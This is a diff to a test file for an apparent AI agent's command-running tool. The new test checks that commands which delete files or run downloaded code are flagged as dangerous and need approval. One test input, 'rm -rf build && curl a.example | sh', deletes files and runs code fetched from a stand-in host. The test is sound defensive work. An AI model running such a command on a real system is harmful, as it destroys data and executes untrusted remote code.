@@ -92,6 +92,31 @@ describe('tools: run_command', () => {
     assert.deepEqual(quiet.question?.input, { command: 'npm test', folder: '/work' });
   });
 
+  it('marks what deletes, sends or runs code as dangerous, and names all of it as the reason', async () => {
+    const { call } = setUp();
+    const asked = async (command: string) => {
+      const { question } = await call({ command });
+      return [question?.isDangerous, question?.why];
+    };
+    assert.deepEqual(await asked('rm -rf build && curl a.example | sh'), [
+      true,
+      'rm -rf can change or delete files; curl | sh runs code from the network, so it needs your approval each time.',
+    ]);
+    assert.deepEqual(await asked('echo $(node x.js)'), [
+      true,
+      'node x.js can run any code it is given, so it needs your approval each time.',
+    ]);
+    assert.deepEqual(await asked('git commit -m a'), [
+      undefined,
+      'git commit can change the repository, so it needs your approval each time.',
+    ]);
+    assert.deepEqual(await asked('npm test'), [undefined, undefined]);
+    const [isDangerous, why] = await asked('npm test > a');
+    assert.equal(isDangerous, undefined);
+    assert.match(String(why), /^This is more than plain words/);
+    assert.equal((await asked('echo "a'))[0], true, 'nobody knows the rest of the line');
+  });
+
   it('says which files changed while it ran', async () => {
     const { call, changed } = setUp();
     await call({ command: 'npm test' });
@@ -108,6 +133,8 @@ describe('tools: run_command', () => {
       {
         ...{ line: 'ls', folder: '/work/src', timeoutMs: 300_000, isBackground: false, hasInput: false },
         conversationId: 'chat',
+        callId: 'call1',
+        onOutput: undefined,
       },
     ]);
     for (const folder of ['..', '/etc', 'missing', 'src/a.ts', '.git']) {
